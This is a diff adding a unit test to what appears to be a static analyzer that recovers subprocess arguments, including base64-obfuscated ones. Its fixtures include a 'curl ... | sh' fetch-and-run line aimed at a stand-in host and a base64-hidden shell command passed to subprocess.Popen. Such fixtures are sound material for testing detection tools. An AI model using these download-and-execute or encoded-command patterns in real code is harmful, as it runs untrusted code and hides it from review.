@@ -63,6 +63,22 @@ def test_constant_folding_of_arguments() -> None:
     assert args[-1] == "curl https://example.invalid/x | sh"
 
 
+def test_argv_lists_give_their_words() -> None:
+    result = analyze(
+        "import subprocess, base64\n"
+        "def unwrap(s):\n"
+        "    raw = base64.b64decode(s)\n"
+        "    return raw.decode()\n"
+        "def run(url):\n"
+        "    subprocess.Popen(['curl', '-o', 'x', url])\n"
+        "    argv = ['sh', '-c', unwrap('aWQgfCBzaA==')]\n"
+        "    subprocess.Popen(argv)\n"
+        "    subprocess.Popen([*extra, 'id'])\n"
+    )
+    args = [f.args[0] for f in result.facts if f.name == "subprocess.Popen" and f.args]
+    assert args == ["curl -o x \u2026", "sh -c id | sh"]
+
+
 def test_scopes_main_guard_and_methods() -> None:
     result = analyze(
         "import os\nclass Cmd:\n    def run(self):\n        self.go()\n    def go(self):\n"
